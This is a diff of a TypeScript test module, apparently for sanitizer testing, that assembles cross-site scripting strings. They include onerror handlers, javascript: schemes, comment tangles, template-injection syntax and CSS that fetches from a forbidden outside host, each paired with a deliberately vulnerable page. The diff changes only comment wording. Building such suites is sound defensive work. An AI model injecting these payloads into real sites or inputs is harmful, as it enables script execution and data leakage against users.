@@ -1,16 +1,18 @@
 /**
- * Strings that run code, or reach for another host, where a page puts them in without care. They are made of places to break out
- * of and things to break out with; each is proven to work by a page that is careless in just that way (`careless`). The classes are
- * those that sanitizers defend against: handlers, elements that load, namespaces that are parsed anew, encodings, schemes, styles.
+ * Strings that run code, or reach for another host, if a page inserts them without care. They combine contexts to break out of with
+ * payloads; each is proven to work by a page that is vulnerable in exactly that way (`careless`). The classes are those that sanitizers
+ * defend against: handlers, loading elements, namespaces that are parsed again, encodings, schemes, styles.
  */
 export interface AttackString {
-  /** Also what it calls `__ran` with. */
+  /** Also the argument of its call of `__ran`. */
   number: number
   name: string
   text: string
-  /** Markup of a careless page around the text. Undefined for what no browser of today runs, but old ones did. */
+  /** Markup of a vulnerable page around the text. Undefined for strings that only outdated browsers run. */
   careless: ((text: string) => string) | undefined
-  /** How it is drawn: put into an element, once or again as it was read; parsed as a page of its own; followed as an address. */
+  /**
+   * How it is rendered: inserted into an element once, or again after it was parsed; parsed as a separate page; or followed as an address.
+   */
   way: 'element' | 'twice' | 'page' | 'address'
 }
 
@@ -21,7 +23,7 @@ interface Draft extends Omit<AttackString, 'number' | 'text'> {
   text: (code: string) => string
 }
 
-/** Where markup is put in, what ends the place, and the careless way of filling it. */
+/** Contexts for markup: how the context ends, and the vulnerable way of filling it. */
 const places: { name: string; end: string; careless: (text: string) => string; way?: AttackString['way'] }[] = [
   { name: 'text', end: '', careless: (text) => `<p>${text}</p>` },
   { name: 'an attribute in double quotes', end: '">', careless: (text) => `<input title="${text}">` },
@@ -35,7 +37,7 @@ const places: { name: string; end: string; careless: (text: string) => string; w
   { name: 'a list of options', end: '</option></select>', careless: (text) => `<select><option>${text}</select>` },
 ]
 
-/** What is put in there. */
+/** Payloads for these contexts. */
 const vectors: Record<string, (code: string) => string> = {
   'a picture that is not there': (code) => `<img src=x: onerror=${code}>`,
   'a picture of a set': (code) => `<img srcset=x: onerror=${code}>`,
@@ -55,7 +57,7 @@ const vectors: Record<string, (code: string) => string> = {
   'signs without a semicolon': (code) => `<img src=x: onerror=${asEntities(code).replaceAll(';', '')}>`,
 }
 
-/** Markup that a first look takes for harmless and a second parser does not, for places of text. */
+/** Markup that a first parser considers harmless and a second one does not, for text contexts. */
 const tangles: Record<string, (code: string) => string> = {
   'a script in an empty comment': (code) => `<!--><img src=x: onerror=${code}>-->`,
   'a comment with a wrong end': (code) => `<!--x--!><img src=x: onerror=${code}>`,
@@ -102,7 +104,7 @@ const attributes: Draft[] = [
   }),
 )
 
-/** Code that is put into code. */
+/** Code that is inserted into code. */
 const scripts: Draft[] = [
   ['the end of a text in single quotes', "';", ";'", "'"],
   ['the end of a text in double quotes', '";', ';"', '"'],
@@ -121,7 +123,7 @@ const scripts: Draft[] = [
   way: 'page' as const,
 }))
 
-/** Addresses with a scheme that runs something, or leads to a host that nobody has named. */
+/** Addresses with a scheme that runs something, or that lead to an unexpected host. */
 const addresses: Draft[] = [
   ...Object.entries<(code: string) => string>({
     'the scheme of scripts': (code) => `javascript:${code}`,
@@ -161,7 +163,7 @@ const inStyle = (text: string) => `<style>p{color:${text}}</style><input value=a
 /** Without brackets, which end an address in a style. */
 const stolen = (code: string) => `https://${forbiddenHost}/${code.replace(/\D/g, '')}`
 
-/** Values that close what is around them, or that ask another host for something. */
+/** Values that close what is around them, or that request something from another host. */
 const styles: Draft[] = [
   ...Object.entries<(code: string) => string>({
     'a background of another host': (code) => `red;background:url(${stolen(code)})`,
@@ -200,7 +202,7 @@ const styles: Draft[] = [
   }).map(([name, text]): Draft => ({ name: `style: ${name}`, text, careless: undefined, way: 'element' })),
 ]
 
-/** What other languages of templates would take for theirs. */
+/** Syntax of other template languages. */
 const templates: Draft[] = Object.entries<(code: string) => string>({
   'a template in double braces': (code) => `{{constructor.constructor("${code}")()}}`,
   'a template with signs of percent': (code) => `<%= ${code} %>`,
@@ -224,7 +226,7 @@ const tangled: Draft[] = Object.entries(tangles).map(([name, text]) => ({
   way: 'twice',
 }))
 
-/** All of them. `__ran` is what the page that looks for them gives to every frame. */
+/** All of them. `__ran` is a function that the checking page adds to every frame. */
 export const attackStrings: readonly AttackString[] = [
   ...outbreaks,
   ...tangled,
